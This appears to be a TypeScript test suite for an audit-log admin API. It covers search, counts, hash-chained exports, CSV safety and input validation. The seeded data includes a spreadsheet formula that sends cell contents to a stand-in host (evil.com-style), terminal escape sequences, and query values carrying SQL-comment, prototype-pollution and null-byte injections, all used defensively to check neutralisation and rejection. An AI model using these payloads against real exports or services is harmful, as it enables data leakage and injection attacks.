// The record through the front door: searched, counted, exported, and who did so.
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { connect } from 'node:net'
import { after, before, test } from 'node:test'
import type { AuditEvent } from '../../src/audit/event.ts'
import { canonical } from '../../src/kernel/json.ts'
import { errorsOf, type RoleScene, roleScene, roles, type Somebody } from '../roles/scene.ts'
import { eventually } from '../support/eventually.ts'
import { throwAwayFolder } from '../support/folder.ts'
import { type Answer, bearer } from '../support/people.ts'
import { numbers, sampleEvent } from './sample.ts'

let at: RoleScene
let auditor: Somebody
const closing: (() => unknown)[] = []
const context = { after: (close: () => unknown) => void closing.push(close) } as never

before(async () => {
  at = await roleScene(context, {
    store: `sqlite:${throwAwayFolder(context)}/gatehouse.db`,
    roles: { ...roles, auditor: { permissions: ['audit:view'] } },
  })
  auditor = await at.somebody('auditor')
  const { audit } = at.people.house
  for (const number of numbers(30)) audit.note(strange(number))
  await audit.flush()
})
after(async () => {
  for (const close of closing.reverse()) await close()
})

const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'

/** Events of a stranger, who says what they like. */
function strange(number: number): AuditEvent {
  return {
    ...sampleEvent(number),
    actor: { id: `stranger-${number % 3}`, type: 'user' },
    user_agent: number % 2 === 0 ? formula : '\u001b[2J"quoted", and\r\na second line \u202e',
  }
}

function ask(path: string, who = auditor): Promise<Answer> {
  return at.people.api('GET', `/api/admin/audit${path}`, undefined, bearer(who))
}

async function fetched(path: string): Promise<string> {
  const response = await fetch(`${at.people.url}/api/admin/audit${path}`, { headers: bearer(auditor) })
  assert.equal(response.status, 200)
  return response.text()
}

function eventsOf({ body }: Answer): readonly Record<string, unknown>[] {
  return body['events'] as readonly Record<string, unknown>[]
}

/** What the record says of its readers, without what it is asked by. */
async function readings(action: string): Promise<readonly AuditEvent[]> {
  const events = (await at.people.events()) as unknown as readonly AuditEvent[]
  return events.filter((event) => event.type === 'data_access' && event.action === action)
}

test('AU3: a search answers what fits, by pages, with all that an event says', async () => {
  const first = await ask('?actor=stranger-1&limit=4')
  assert.equal(first.status, 200, JSON.stringify(first.body))
  assert.deepEqual([eventsOf(first).length, first.body['complete']], [4, true])
  const rest = await ask(`?actor=stranger-1&limit=200&after=${first.body['next']}`)
  assert.deepEqual([eventsOf(rest).length, rest.body['next']], [6, undefined])
  const shown = [...eventsOf(first), ...eventsOf(rest)]
  assert.deepEqual(
    shown.map(({ request_id }) => request_id),
    numbers(30)
      .filter((number) => number % 3 === 1)
      .reverse()
      .map((number) => `request-${number}`),
  )
  const { seq, hash, at: moment, ...said } = shown[0] as Record<string, unknown>
  const { at: atMs, v, ...meant } = strange(28)
  assert.deepEqual(said, meant)
  assert.deepEqual([moment, typeof seq, String(hash).length], [new Date(atMs).toISOString(), 'number', 64])
  const one = await ask(`/events/${meant.id}`)
  assert.deepEqual(one.body, shown[0])
  assert.equal((await ask('/events/no-event')).status, 404)
})

test('AU3: every reading is an event with who, what and how many, before it is answered', async () => {
  await ask('?actor=stranger-2&result=success,denied&limit=3')
  await ask('/count?by=actor&from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z')
  await fetched('/export?format=csv&actor=stranger-0')
  const [searched, counted, ...exported] = [
    (await readings('audit.search')).at(-1),
    (await readings('audit.count')).at(-1),
    ...(await readings('audit.export')).slice(-2),
  ]
  assert.equal(searched?.actor.id, auditor.id)
  assert.deepEqual(searched?.resource, { id: '', type: 'audit' })
  assert.deepEqual(searched?.details, { actor: 'stranger-2', events: 3, result: 'success,denied' })
  assert.deepEqual(counted?.details, {
    by: 'actor',
    events: 30,
    from: '2026-01-01T00:00:00Z',
    to: '2026-01-02T00:00:00Z',
  })
  const [begun, ended] = exported.map((event) => event?.details)
  assert.deepEqual([begun?.['step'], begun?.['format'], begun?.['actor']], ['begun', 'csv', 'stranger-0'])
  assert.deepEqual([ended?.['step'], ended?.['events'], ended?.['whole']], ['ended', 10, true])
})

test('AU3: what cannot be written down is not answered', async (context) => {
  const { audit } = at.people.house
  const enroll = context.mock.method(audit, 'enroll', async () => {
    throw new Error('the disk is full')
  })
  for (const path of ['', '/count', '/export', `/events/${sampleEvent(3).id}`]) {
    const refused = await ask(path)
    assert.equal(refused.status, 500, path)
    assert.ok(!JSON.stringify(refused.body).includes('stranger'), path)
  }
  enroll.mock.restore()
  assert.equal((await ask('')).status, 200)
})

test('AU3: a count says how many there are of each', async () => {
  const { body } = await ask('/count?by=actor&to=2026-01-02T00:00:00Z')
  const counts = numbers(3, 0).map((number) => ({ key: `stranger-${number}`, count: 10 }))
  assert.deepEqual(body, { by: 'actor', counts, others: 0, total: 30, exact: true })
  const byDay = await ask('/count?by=day&to=2026-01-02T00:00:00Z')
  assert.deepEqual(byDay.body['counts'], [{ key: '2026-01-01T00:00:00.000Z', count: 30 }])
  const first = await ask('/count?by=actor&limit=1&to=2026-01-02T00:00:00Z')
  assert.deepEqual([first.body['others'], first.body['total']], [20, 30])
})

test('AU3: every wrong parameter is named', async () => {
  const long = 'x'.repeat(257)
  const wrong: Readonly<Record<string, string>> = {
    'type=signin': 'type',
    'type=authentication,': 'type',
    'type=': 'type',
    [`action=${numbers(33)
      .map((number) => `a${'b'.repeat(number)}`)
      .join(',')}`]: 'action',
    'action=%27%3B--': 'action',
    'result=ok': 'result',
    [`actor=${long}`]: 'actor',
    'actor=': 'actor',
    'actor=a%00b': 'actor',
    'address=10.0.0.1%2F8': 'address',
    'address=10.0.0.0%2F33': 'address',
    'address=localhost': 'address',
    'resource_type=thing': 'resource_type',
    'resource_type=constructor': 'resource_type',
    [`resource=${long}`]: 'resource',
    'request_id=': 'request_id',
    'from=yesterday': 'from',
    'from=2026-13-01T00:00:00Z': 'from',
    'from=1767225600000': 'from',
    'from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z': 'to',
    'from=1h&to=2h': 'to',
    'order=random': 'order',
    'limit=0': 'limit',
    'limit=201': 'limit',
    'limit=1e2': 'limit',
    'after=1': 'after',
    'after=-1.5': 'after',
    'after=9999999999999999.1': 'after',
    'after=1.2.3': 'after',
    'after=%F0%9F%98%80': 'after',
    'actor=a&actor=b': 'actor',
    '__proto__=1': '__proto__',
    'sort=at': 'sort',
    'format=csv': 'format',
  }
  for (const [query, name] of Object.entries(wrong)) {
    const refused = await ask(`?${query}`)
    assert.equal(refused.status, 422, query)
    assert.ok(Object.keys(errorsOf(refused)).includes(name), `${query}: ${JSON.stringify(refused.body)}`)
  }
  for (const query of ['by=user_agent', 'by=constructor', 'limit=1001', 'order=newest'])
    assert.equal((await ask(`/count?${query}`)).status, 422, query)
  for (const query of ['format=xml', 'limit=1', 'after=1.1'])
    assert.equal((await ask(`/export?${query}`)).status, 422, query)
  for (const fine of [
    '?after=0.0',
    '?after=999999999999999.999999999999999',
    '?actor=%F0%9F%98%80',
    '?address=%3A%3Affff%3A203.0.113.7',
  ])
    assert.equal((await ask(fine)).status, 200, fine)
})

test('AU3: an export as JSON lines is verified from its own text: each line, and that none is missing', async () => {
  const lines = (await fetched('/export')).trimEnd().split('\n')
  let before = { seq: 0, hash: '0'.repeat(64) }
  for (const line of lines) {
    const { seq, previous, hash, event } = JSON.parse(line) as Exported
    assert.deepEqual([seq, previous], [before.seq + 1, before.seq === 0 ? null : before.hash])
    const body = canonical(event)
    assert.ok(line.includes(body), 'the event stands there as it is stored')
    assert.equal(createHash('sha256').update(before.hash, 'hex').update(body, 'utf8').digest('hex'), hash)
    before = { seq, hash }
  }
  assert.ok(lines.length > 30)
  const some = (await fetched('/export?actor=stranger-1'))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Exported)
  assert.equal(some.length, 10)
  for (const { previous, hash, event } of some)
    assert.equal(
      createHash('sha256')
        .update(previous ?? '0'.repeat(64), 'hex')
        .update(canonical(event))
        .digest('hex'),
      hash,
    )
})

interface Exported {
  readonly seq: number
  readonly previous: string | null
  readonly hash: string
  readonly event: AuditEvent
}

test('AU3: an export as CSV has one row to an event, whatever it says, and no formula', async () => {
  const response = await fetch(`${at.people.url}/api/admin/audit/export?format=csv&to=2026-01-02T00:00:00Z`, {
    headers: bearer(auditor),
  })
  assert.equal(response.headers.get('content-disposition'), 'attachment; filename="audit.csv"')
  assert.match(response.headers.get('content-type') ?? '', /^text\/csv/)
  const [head, ...rows] = rowsOf(await response.text())
  assert.deepEqual(head?.slice(0, 5), ['seq', 'at', 'type', 'action', 'result'])
  assert.equal(rows.length, 30)
  const column = head?.indexOf('user_agent') ?? -1
  const agents = new Set(rows.map((row) => row[column]))
  assert.deepEqual(agents, new Set([`'${formula}`, '\u001b[2J"quoted", and\r\na second line \u202e']))
  for (const row of rows) {
    assert.equal(row.length, head?.length)
    for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
  }
})

/** RFC 4180, read by hand. */
function rowsOf(text: string): string[][] {
  const rows: string[][] = [[]]
  let [cell, quoted] = ['', false]
  const put = (): void => {
    rows.at(-1)?.push(cell)
    cell = ''
  }
  for (let at = 0; at < text.length; at++) {
    const one = text[at] as string
    if (quoted && one === '"' && text[at + 1] === '"') cell += text[++at]
    else if (one === '"') quoted = !quoted
    else if (!quoted && one === ',') put()
    else if (!quoted && one === '\r' && text[at + 1] === '\n') {
      put()
      rows.push([])
      at++
    } else cell += one
  }
  assert.deepEqual([rows.pop(), cell, quoted], [[], '', false], 'the last row ends too')
  return rows
}

test('AU3: an export of a record that grows ends where it ended when it began', async () => {
  const { audit } = at.people.house
  const response = await fetch(`${at.people.url}/api/admin/audit/export`, { headers: bearer(auditor) })
  for (const number of numbers(600, 100)) audit.note(strange(number))
  await audit.flush()
  const lines = (await response.text()).trimEnd().split('\n')
  const [begun] = (await readings('audit.export')).slice(-2)
  assert.equal(lines.length, begun?.details['until'])
})

test('AU3: a client that leaves ends the export, and the record says that it was not whole', async () => {
  const { audit } = at.people.house
  for (const number of numbers(12_000, 2_000))
    audit.note({ ...strange(number), details: { text: 'x'.repeat(256), more: 'y'.repeat(256) } })
  await audit.flush()
  const before = (await readings('audit.export')).length
  const socket = connect(at.people.port, '127.0.0.1')
  socket.write(
    `GET /api/admin/audit/export HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${auditor.access_token}\r\n\r\n`,
  )
  await new Promise<void>((resolve) => socket.once('data', () => resolve()))
  socket.destroy()
  const ended = await eventually(async () => (await readings('audit.export'))[before + 1])
  assert.deepEqual([ended.details['step'], ended.details['whole']], ['ended', false])
  assert.ok(Number(ended.details['events']) < 12_000, `${ended.details['events']} of them`)
})

test('AU3: exports beyond sixteen at once are refused, and let in again', async () => {
  const headers = bearer(auditor)
  const open = await Promise.all(numbers(16).map(() => fetch(`${at.people.url}/api/admin/audit/export`, { headers })))
  const refused = await ask('/export')
  assert.deepEqual([refused.status, refused.headers.get('retry-after')], [503, '60'])
  for (const response of open) await response.body?.cancel()
  await eventually(async () => {
    const again = await fetch(`${at.people.url}/api/admin/audit/export?to=2026-01-01T00:00:00.001Z`, { headers })
    await again.body?.cancel()
    return again.status === 200 ? true : undefined
  })
})
